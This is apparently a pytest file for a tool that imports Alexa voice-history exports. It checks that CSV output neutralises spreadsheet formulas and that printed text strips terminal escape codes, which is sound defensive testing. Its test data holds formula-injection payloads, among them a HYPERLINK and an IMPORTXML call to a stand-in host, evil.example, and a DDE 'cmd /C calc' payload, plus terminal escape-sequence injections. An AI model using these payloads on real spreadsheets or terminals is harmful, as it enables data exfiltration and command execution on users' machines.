"""Issue 11 item 3: export text can neither run as a spreadsheet formula nor drive a terminal.

An Alexa export whose device names and ids are formulas or terminal escape sequences goes
through the user's path (import, mark for a request, create the request, list, explain,
show): every CSV cell a spreadsheet would evaluate is neutralised, the letter keeps the exact
identifiers, and nothing printed carries an escape sequence or control character.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

from reviewer.core.safetext import spreadsheet_cell, terminal_json, terminal_text
from tests.request_exports import alexa_export
from tests.test_cli import _env, assert_no_traceback, cli

HOSTILE_DEVICES = {
    1: '=HYPERLINK("http://evil.example/x?"&A1,"Open")',
    2: "@SUM(1+1)",
    3: "=1+1",
    4: "+cmd|' /C calc'!A0",
    5: "-2+3",
    6: "\tTab Echo",
    7: "Kitchen\x1b]0;pwned\x07\x1b[2J\x1b[31mEcho\x9b31m\u202eohce",
}
HOSTILE_ID = "=IMPORTXML(\"http://evil.example\",\"//a\")"
ESCAPE_BYTES = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _edit(i: int, record: dict[str, Any]) -> None:
    if i in HOSTILE_DEVICES:
        record["device"]["deviceName"] = HOSTILE_DEVICES[i]
    if i == 2:
        for item in record["voiceHistoryRecordItems"]:
            if item.get("utteranceId"):
                item["utteranceId"] = HOSTILE_ID


def test_csv_cells_and_printed_text_are_neutralised(tmp_path: Path) -> None:
    env = _env(tmp_path)
    data = tmp_path / "library"
    export, _ = alexa_export(tmp_path / "exports", "amazon", records=10, edit=_edit)

    def run(*args: str) -> str:
        r = cli(data, *args, env=env)
        assert r.code == 0, (args, r.out, r.err)
        assert_no_traceback(r)
        assert not ESCAPE_BYTES.search(r.out + r.err), (args, r.out + r.err)
        return r.out

    run("import", str(export))
    clips = json.loads(run("list", "--json"))
    hostile = [c["id"] for c in clips if c["device"] in HOSTILE_DEVICES.values()]
    assert len(hostile) == len(HOSTILE_DEVICES)
    assert any(c["vendor_id"] == HOSTILE_ID for c in clips)
    listing = run("list")
    assert "Kitchen]0;pwnedEchoohce" not in listing  # the OSC's text goes with it
    assert "KitchenEchoohce" in listing
    for cid in hostile:
        run("explain", str(cid))
    run("decide", *map(str, hostile), "--request-deletion")
    out = run("request", "create", "--out", str(tmp_path / "letters"))
    written = [Path(p) for p in re.findall(r"wrote (.+)", out)]
    letter = next(p for p in written if p.suffix == ".txt").read_text(encoding="utf-8")
    table = next(p for p in written if p.suffix == ".csv").read_text(encoding="utf-8")

    # The letter names the recordings exactly as the vendor does.
    assert HOSTILE_ID in letter
    for name in list(HOSTILE_DEVICES.values())[:6]:
        assert name.strip() in letter

    rows = list(csv.reader(io.StringIO(table, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], rows
    devices = {row[rows[0].index("device")] for row in rows[1:]}
    for name in list(HOSTILE_DEVICES.values())[:6]:
        assert "'" + name in devices
    assert "'" + HOSTILE_ID in cells

    run("request", "list")
    shown = run("request", "show", "1")
    assert HOSTILE_ID in shown
    shown_csv = run("request", "show", "1", "--csv")
    assert not [c for row in csv.reader(io.StringIO(shown_csv, newline="")) for c in row
                if c.startswith(FORMULA_START)]


def test_the_neutralisers() -> None:
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\uff1d1+1") == "'\uff1d1+1"  # full-width equals sign
    assert spreadsheet_cell("Kitchen Echo") == "Kitchen Echo"
    assert spreadsheet_cell("") == ""
    assert terminal_text("a\x1b[31mb\x1b[0m") == "ab"
    assert terminal_text("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b") == "alinkb"
    assert terminal_text("a\x9b2Jb\x07\x00c") == "abc"
    assert terminal_text("line one\nline\ttwo\r\n", one_line=True) == "line one line two"
    assert terminal_text("keeps\nlines") == "keeps\nlines"
    assert terminal_text("Gr\u00fc\u00dfe, \u65e5\u672c") == "Gr\u00fc\u00dfe, \u65e5\u672c"
    raw = json.dumps({"device": "a\x9b2J\u202eb\x7f"}, ensure_ascii=False)
    assert json.loads(terminal_json(raw)) == json.loads(raw)
    assert not ESCAPE_BYTES.search(terminal_json(raw))
